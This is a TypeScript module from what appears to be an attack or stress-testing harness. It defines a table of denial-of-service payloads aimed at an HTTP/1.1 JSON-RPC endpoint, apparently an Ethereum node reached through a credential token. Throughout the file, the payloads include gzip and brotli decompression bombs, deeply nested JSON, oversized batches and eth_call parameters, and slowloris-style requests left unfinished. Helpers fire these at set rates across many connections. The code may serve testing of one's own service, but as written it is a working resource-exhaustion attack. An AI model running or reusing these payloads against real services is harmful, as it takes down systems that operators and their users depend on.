// Attacks of one credential by the bodies of its requests over HTTP/1.1.
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { type Attacker, inTurn } from '../attacker/attacker.ts'
import { batchOf, ethCall } from '../attacker/calls.ts'
import { completeRequest, type Headers } from '../attacker/http1.ts'
import type { AttackTable } from './attack.ts'

const mebibyte = 1 << 20
// Just below the limit of a body.
const most = 5 * mebibyte - 16

/** Attacks by request bodies. */
export const bodyAttacks: AttackTable = {
  'batch:ones-gzip': (attacker) => sendCompressed(attacker, batchOf('1', most / 2)),
  'batch:objects-gzip': (attacker) => sendCompressed(attacker, batchOf('{"id":1}', Math.floor(most / 9))),
  'batch:long-ids-gzip': (attacker) => {
    sendCompressed(attacker, batchOf(`{"id":"${'x'.repeat(100)}"}`, Math.floor(most / 110)))
  },
  'batch:allowed-items': (attacker) => {
    send(attacker, 50, () => batchOf('{"id":1}', 1_000))
  },
  'body:open-brackets-gzip': (attacker) => sendCompressed(attacker, Buffer.alloc(most, '['), 10),
  'body:open-objects-gzip': (attacker) => {
    sendCompressed(attacker, Buffer.from('{"a":'.repeat(Math.floor(most / 5))), 10)
  },
  'body:escapes-gzip': (attacker) => {
    const params = `"${String.raw`\u0041`.repeat(Math.floor(most / 6) - 20)}"`
    sendCompressed(attacker, Buffer.from(`{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${params}]}`))
  },
  'body:many-parameters-gzip': (attacker) => {
    const params = `${'1,'.repeat(Math.floor(most / 2) - 60)}1`
    sendCompressed(attacker, Buffer.from(`{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${params}]}`))
  },
  'body:zip-bomb': (attacker) => {
    const body = gzipSync(Buffer.alloc(200 * mebibyte))
    send(attacker, 20, () => body, { 'content-encoding': 'gzip' })
  },
  'body:brotli-bomb': (attacker) => {
    const body = brotliCompressSync(Buffer.alloc(200 * mebibyte))
    send(attacker, 20, () => body, { 'content-encoding': 'br' })
  },
  'body:large-calls': (attacker) => {
    let number = 0
    send(attacker, 12, () => {
      number += 1
      return ethCall(number, 'slow', 2 * mebibyte)
    })
  },
  'body:unfinished': (attacker) => {
    const { authority: host, tokens } = attacker.target
    const headers = { host, 'content-type': 'application/json' }
    const partial = completeRequest('POST', `/${tokens[0]}`, headers, Buffer.alloc(most, ' ')).subarray(0, -1)
    attacker.hold(200, () => {
      const connection = attacker.connect()
      void connection.opened.then(() => connection.write(partial))
      return connection
    })
  },
}

function sendCompressed(attacker: Attacker, body: Buffer, perSecond = 5): void {
  const compressed = gzipSync(body)
  send(attacker, perSecond, () => compressed, { 'content-encoding': 'gzip' })
}

/** Sends calls at a rate, each over another one of as many connections as there are calls in 20 s. */
function send(attacker: Attacker, perSecond: number, next: () => Buffer, further: Headers = {}): void {
  const { authority: host, tokens } = attacker.target
  const turn = inTurn(attacker.hold(perSecond * 20, () => attacker.connect()))
  attacker.repeat(perSecond, () => {
    const connection = turn()
    if (connection?.isWritable !== true) return
    const headers = { host, 'content-type': 'application/json', ...further }
    connection.write(completeRequest('POST', `/${tokens[0]}`, headers, next()))
  })
}
